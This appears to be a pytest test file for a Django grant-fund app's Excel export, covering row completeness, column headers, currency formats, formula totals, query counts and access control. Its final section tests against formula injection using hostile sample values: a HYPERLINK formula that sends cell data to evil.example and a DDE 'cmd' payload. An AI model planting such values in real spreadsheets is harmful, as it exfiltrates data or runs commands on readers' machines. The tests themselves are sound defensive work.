"""The queue's Excel export: every matching row (not one page), a frozen header
with an autofilter, the one money format of every export in the fund's
currency, a live SUM totals row that equals the page's totals, and a fixed
number of queries."""

from __future__ import annotations

import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from fundmgr.roles import Role
from fundmgr.spreadsheet import money_format
from grants.models import GrantState
from grants.views import PAGE_SIZE

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def as_officer(client, officer):
    client.force_login(officer)
    return client


def export(client, event, query=""):
    response = client.get(reverse("grant-export", args=[event.code]) + query)
    assert response.status_code == 200, response.status_code
    return response, openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def data_rows(sheet):
    rows = list(sheet.iter_rows(values_only=True))
    return rows[0], rows[1:-1], rows[-1]


def test_the_export_is_an_xlsx_attachment_named_after_the_event(as_officer, make_grant, event):
    make_grant()
    response, book = export(as_officer, event)
    assert response["Content-Type"] == XLSX
    assert f'filename="{event.code}-grants-' in response["Content-Disposition"]
    assert book.sheetnames[0] == event.code


def test_the_export_holds_every_matching_row_not_just_one_page(as_officer, make_grant, event):
    for _ in range(PAGE_SIZE + 5):
        make_grant(country="NP")
    make_grant(country="HT")
    _response, book = export(as_officer, event, "?country=NP")
    header, rows, totals = data_rows(book.worksheets[0])
    assert len(rows) == PAGE_SIZE + 5
    assert {row[header.index("ISO code")] for row in rows} == {"NP"}


def test_each_row_carries_the_queue_columns_in_words(as_officer, make_grant, event):
    grant = make_grant(country="VU", gender="male", cost=Decimal("2345.67"))
    _response, book = export(as_officer, event)
    header, rows, _totals = data_rows(book.worksheets[0])
    assert header == (
        "Reference",
        "Delegate",
        "Title or function",
        "Gender",
        "ISO code",
        "Country",
        "Region",
        "Eligibility",
        "LDC on the eligibility date",
        "State",
        "Estimated cost",
        "PSC",
        "Open commitment",
        "Approved",
        "Advanced",
        "Actual cost",
        "PSC charged",
        "Owed by the traveller",
        "Refunded",
        "Balance paid to the traveller",
        "Claim overdue",
    )
    assert rows == [
        (
            grant.reference,
            grant.nominee_name,
            "Minister",
            "Male",
            "VU",
            "Vanuatu",
            "Oceania",
            "First priority: least developed country",
            "yes",
            "Submitted",
            2345.67,
            187.65,
            0,
            *[0] * 7,  # nothing in the ledger yet
            "no",
        )
    ]


def test_the_header_is_frozen_and_filtered_and_the_columns_have_widths(
    as_officer, make_grant, event
):
    make_grant()
    make_grant()
    _response, book = export(as_officer, event)
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:U3"
    assert all(sheet.column_dimensions[c].width >= 9 for c in "ABCDEFGHIJKLMNOPQRSTU")
    assert all(cell.font.bold for cell in sheet[1])


def test_amounts_are_formatted_in_the_funds_currency_and_totalled_by_live_formulas(
    as_officer, make_grant, event
):
    make_grant(cost=Decimal("2000.00"))
    make_grant(cost=Decimal("3000.50"))
    make_grant(cost=Decimal("1500.25"))
    _response, book = export(as_officer, event)
    sheet = book.worksheets[0]
    # The accounting format every export uses (fundmgr.spreadsheet.money_format).
    assert sheet["K2"].number_format == '#,##0.00 "USD";-#,##0.00 "USD"'
    assert sheet["M4"].number_format == '#,##0.00 "USD";-#,##0.00 "USD"'
    assert sheet["A5"].value == "Total"
    assert sheet["K5"].value == "=SUM(K2:K4)"
    assert sheet["L5"].value == "=SUM(L2:L4)"
    assert sheet["M5"].value == "=SUM(M2:M4)"
    assert sheet["K5"].number_format == '#,##0.00 "USD";-#,##0.00 "USD"'


def test_money_formats_follow_the_currencys_minor_unit():
    assert money_format("USD") == '#,##0.00 "USD";-#,##0.00 "USD"'
    assert money_format("JPY") == '#,##0 "JPY";-#,##0 "JPY"'
    assert money_format("KWD") == '#,##0.000 "KWD";-#,##0.000 "KWD"'


def test_the_totals_equal_the_queues_totals_under_the_same_filters(as_officer, make_grant, event):
    costs = ["2000.00", "2750.40", "1999.99", "3100.10", "2222.22", "1800.00"]
    for i, cost in enumerate(costs):
        grant = make_grant(
            country="NP" if i % 2 else "HT",
            cost=Decimal(cost),
            state=GrantState.COMMITTED if i < 3 else GrantState.SUBMITTED,
        )
        if grant.state == GrantState.COMMITTED:
            grant.approved_amount = grant.committed_amount = grant.cost
            grant.save()
    query = "?country=NP"
    summary = as_officer.get(reverse("grant-queue", args=[event.code]) + query).context["summary"]
    _response, book = export(as_officer, event, query)
    header, rows, _totals = data_rows(book.worksheets[0])
    cost_total = sum(Decimal(str(row[header.index("Estimated cost")])) for row in rows)
    committed_total = sum(Decimal(str(row[header.index("Open commitment")])) for row in rows)
    assert len(rows) == summary.matching.count == 3
    assert cost_total == summary.matching.cost == Decimal("7650.50")
    assert committed_total == summary.matching.committed == Decimal("2750.40")


def test_an_empty_export_has_its_header_and_a_zero_total(as_officer, event):
    _response, book = export(as_officer, event, "?state=closed")
    header, rows, totals = data_rows(book.worksheets[0])
    assert rows == [] and totals[0] == "Total" and totals[10] == 0


def test_the_about_sheet_names_the_filters(as_officer, make_grant, event):
    make_grant()
    _response, book = export(as_officer, event, "?region=asia&gender=female")
    about = dict(book["About"].iter_rows(values_only=True))
    assert about["Filters"] == "region = asia; gender = female"
    assert about["Rows"] == 1


@pytest.mark.parametrize("size", [3, 30])
def test_the_export_runs_a_fixed_number_of_queries(
    as_officer, make_grant, event, django_assert_num_queries, size
):
    for _ in range(size):
        make_grant()
    as_officer.get(reverse("grant-queue", args=[event.code]))
    # Session, user, roles, event, countries for the filter, the ledger's
    # amounts for the rows, the rows.
    with django_assert_num_queries(7):
        response = as_officer.get(reverse("grant-export", args=[event.code]))
        b"".join(response.streaming_content)


def test_a_donor_cannot_export_the_grants(client, make_user, event):
    client.force_login(make_user("giver", Role.DONOR))
    assert client.get(reverse("grant-export", args=[event.code])).status_code == 403


# --- Outside text is text (docs/security.md, "Outside text is data") ---------------------

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
THANKS = '=HYPERLINK("http://evil.example/?"&A1,"Thanks")'


@pytest.mark.parametrize("prefix", PREFIXES, ids=repr)
def test_a_delegates_name_and_title_are_text_cells_showing_what_was_typed(
    as_officer, make_grant, event, prefix
):
    name = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"name")'
    title = f"{prefix}cmd|' /C calc'!A0"
    grant = make_grant()
    type(grant).objects.filter(pk=grant.pk).update(nominee_name=name, nominee_title=title)
    _response, book = export(as_officer, event)
    sheet = book.worksheets[0]
    assert [(c.value, c.data_type) for c in (sheet["B2"], sheet["C2"])] == [
        (name, "s"),
        (title, "s"),
    ]


def test_a_delegate_named_as_a_hyperlink_formula_is_exported_as_text(as_officer, make_grant, event):
    make_grant(name=THANKS)
    _response, book = export(as_officer, event)
    cell = book.worksheets[0]["B2"]
    assert (cell.value, cell.data_type) == (THANKS, "s")


def test_the_event_and_fund_names_on_the_about_sheet_are_text(as_officer, make_grant, event):
    type(event).objects.filter(pk=event.pk).update(name=THANKS)
    make_grant()
    _response, book = export(as_officer, event)
    [cell] = [row[1] for row in book["About"].iter_rows() if row[0].value == "Event"]
    assert (cell.value, cell.data_type) == (f"{event.code} – {THANKS}", "s")


def test_the_totals_row_is_the_exports_own_formulas(as_officer, make_grant, event):
    make_grant()
    _response, book = export(as_officer, event)
    sheet = book.worksheets[0]
    assert [(sheet[c].value, sheet[c].data_type) for c in ("K3", "L3", "M3")] == [
        ("=SUM(K2:K2)", "f"),
        ("=SUM(L2:L2)", "f"),
        ("=SUM(M2:M2)", "f"),
    ]
